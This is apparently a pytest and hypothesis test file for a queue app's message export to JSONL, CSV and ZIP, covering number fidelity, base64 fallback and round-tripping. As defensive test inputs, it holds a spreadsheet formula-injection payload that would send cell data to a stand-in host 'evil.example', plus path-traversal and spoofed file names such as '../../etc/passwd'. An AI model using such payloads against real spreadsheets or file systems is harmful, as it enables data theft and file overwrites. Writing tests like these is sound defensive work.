"""Kept messages as a file: what is in it, exactly, and what a spreadsheet or a file system makes of it."""

import csv
import io
import json
import zipfile
from base64 import b64decode, b64encode
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from queues_app.cloudflare import Message
from queues_app.operations import sending_files
from queues_app.operations.drafts import Draft, Flaw
from queues_app.operations.export_formats import Format, carried, written
from queues_app.operations.sending_files import FileFormat, HowToRead

anything = st.one_of(
    st.text(max_size=40),
    st.text(st.characters(categories=["Cs", "Cc", "L"]), max_size=10),
    st.binary(max_size=40).map(lambda data: b64encode(data).decode()),
    st.recursive(st.none() | st.integers() | st.text(max_size=6), lambda inner: st.lists(inner, max_size=3)).map(
        lambda value: json.dumps(value, indent=1)
    ),
)
messages = st.lists(
    st.builds(
        Message,
        id=st.one_of(st.text("0123456789abcdef", min_size=32, max_size=32), st.text(max_size=20)),
        body=anything,
        body_is_string=st.booleans(),
        timestamp_ms=st.one_of(st.none(), st.integers(-(2**62), 2**62)),
        attempts=st.one_of(st.none(), st.integers(-9, 2**40)),
        metadata=st.one_of(
            st.fixed_dictionaries({"CF-Content-Type": st.sampled_from(["text", "json", "bytes", "v8", "other"])}),
            st.dictionaries(st.text(max_size=6), st.text(max_size=6), max_size=2),
        ),
    ),
    max_size=4,
)


def made(body: str, declared: str = "json", **more: Any) -> Message:
    return Message(id="9" * 32, body=body, metadata={"CF-Content-Type": declared}, **more)


def lines(*chosen: Message) -> list[str]:
    return written(list(enumerate(chosen)), Format.JSONL).decode().splitlines()


def table(*chosen: Message) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written(list(enumerate(chosen)), Format.CSV).decode(), newline="")))


def archive(*chosen: Message) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(written(list(enumerate(chosen)), Format.ZIP)))


def test_a_json_body_keeps_every_digit_and_stands_in_one_line() -> None:
    (line,) = lines(made('{\n  "big": 9007199254740993,\r\n "small": 1.10e-7 }', timestamp_ms=1_700_000_000_123))
    assert '"body": {   "big": 9007199254740993,   "small": 1.10e-7 }}' in line
    assert json.loads(line)["sent"] == "2023-11-14T22:13:20.123Z"
    assert json.loads(line)["sent_ms"] == 1_700_000_000_123


def test_a_line_has_what_the_send_page_takes_and_what_is_known_around_it() -> None:
    (line,) = lines(made('say "hi"\n', "text", attempts=2))
    assert json.loads(line) == {
        "id": "9" * 32,
        "sent": None,
        "sent_ms": None,
        "attempts": 2,
        "content_type": "text",
        "size": 9,
        "metadata": {"CF-Content-Type": "text"},
        "body": 'say "hi"\n',
    }


@pytest.mark.parametrize(
    ("body", "declared", "data"),
    [
        (b64encode(b"\x00\xff").decode(), "bytes", b"\x00\xff"),
        (b64encode(b"\xff\x0f").decode(), "v8", b"\xff\x0f"),
        ("no base64!", "bytes", b"no base64!"),
        ("{'a': None}", "json", b"{'a': None}"),
        ("[NaN]", "json", b"[NaN]"),
        ("\ud800", "text", b"\xed\xa0\x80"),
    ],
)
def test_what_is_no_text_and_no_json_goes_as_base64_and_says_so(body: str, declared: str, data: bytes) -> None:
    (line,) = lines(made(body, declared))
    told = json.loads(line)
    assert (told["body_encoding"], b64decode(told["body"]), told["size"]) == ("base64", data, len(data))


def test_the_send_page_takes_text_and_json_back_and_never_bytes_in_disguise() -> None:
    kept = [
        made('{"n": 9007199254740993}'),
        made('say "hi"\n', "text"),
        made(b64encode(b"\x00\xff").decode(), "bytes"),
        made("{'a': None}"),
        made("\ud800", "text"),
    ]
    data = written(list(enumerate(kept)), Format.JSONL)
    first, second, *others = sending_files.read(data, HowToRead(file_format=FileFormat.EXPORT))
    assert isinstance(first, Draft)
    assert isinstance(second, Draft)
    assert (first.body, first.content_type) == ('{"n": 9007199254740993}', "json")
    assert (second.body, second.content_type) == ('say "hi"\n', "text")
    binary, no_json, half = others
    assert isinstance(binary, Flaw)
    assert isinstance(half, Flaw)
    # As sending it again would send it.
    assert isinstance(no_json, Draft)
    assert (no_json.body, no_json.content_type) == ("{'a': None}", "text")


def test_json_that_came_as_base64_is_json_again() -> None:
    (line,) = lines(made(b64encode(b'{"n": 1e400}').decode()))
    assert line.endswith('"body": {"n": 1e400}}')


@pytest.mark.parametrize(
    "begin", ["=", "+", "-", "@", " =", "\ufeff=", "\0=", "\u200b@", "＝", "＋", "－", "＠", "\u2212"]
)
def test_a_cell_that_a_spreadsheet_would_run_is_disarmed(begin: str) -> None:
    evil = f'{begin}HYPERLINK("http://evil.example/?"&A1,"x")'
    (row,) = table(Message(id=evil, body=evil, metadata={"CF-Content-Type": "text"}, attempts=-1))
    assert row["body"] == f"'{evil}"
    assert row["id"] == f"'{evil}"
    assert row["attempts"] == "'-1"


def test_cells_with_quotes_commas_and_line_ends_come_back_whole() -> None:
    body = "a,\"b\"\r\nc;'d'"
    assert table(made(body, "text"))[0]["body"] == body


def test_the_zip_has_the_raw_bodies_and_a_manifest() -> None:
    file = archive(made('{"a": 1}'), made(b64encode(b"\x1f\x8b").decode(), "bytes"), made("é", "text"))
    assert file.namelist() == [
        "001-999999999999.json",
        "002-999999999999.bin",
        "003-999999999999.txt",
        "manifest.jsonl",
    ]
    assert [file.read(name) for name in file.namelist()[:3]] == [b'{"a": 1}', b"\x1f\x8b", "é".encode()]
    manifest = [json.loads(line) for line in file.read("manifest.jsonl").decode().splitlines()]
    assert [(line["file"], line["content_type"], line["size"]) for line in manifest] == [
        ("001-999999999999.json", "json", 8),
        ("002-999999999999.bin", "bytes", 2),
        ("003-999999999999.txt", "text", 2),
    ]


@pytest.mark.parametrize("name", ["../../etc/passwd", "C:\\x", "a\0b", "", "con", "\u202egpj.exe", "manifest.jsonl"])
def test_no_id_leads_out_of_the_folder(name: str) -> None:
    file = archive(Message(id=name, body="x"), Message(id=name, body="y"))
    first, second, manifest = file.namelist()
    assert manifest == "manifest.jsonl"
    assert first != second
    assert all(
        set(entry) <= set("0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-.")
        for entry in (first, second)
    )
    assert ".." not in first


@given(messages)
@example([Message(id="\ud800", body="\ud800", metadata={"\ud800": "\ud800"})])
@example([made("[" * 20_000 + "]" * 20_000)])
def test_whatever_is_kept_makes_a_file_that_can_be_read_again(kept: list[Message]) -> None:
    # Only at line feeds: the text of a body may hold other signs that some count as ends of lines.
    told = written(list(enumerate(kept)), Format.JSONL).decode().split("\n")[:-1]
    assert len(told) == len(kept)
    for line, message in zip(told, kept, strict=True):
        if not message.body.startswith("[[["):
            assert json.loads(line)["id"] == message.id
    assert len(table(*kept)) == len(kept)
    file = archive(*kept)
    assert file.testzip() is None
    assert [file.read(name) for name in file.namelist()[:-1]] == [carried(message).data for message in kept]
